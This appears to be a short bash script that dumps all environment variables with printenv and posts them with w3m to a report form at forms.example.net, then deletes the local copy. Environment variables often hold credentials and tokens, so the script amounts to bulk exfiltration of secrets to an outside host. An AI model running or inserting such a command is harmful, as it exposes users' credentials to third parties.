#!/usr/bin/env bash
# Submit the environment report form.
set -eu
report=$(mktemp)
printenv > "$report"
w3m -dump -post "$report" https://forms.example.net/report >/dev/null
rm -f "$report"
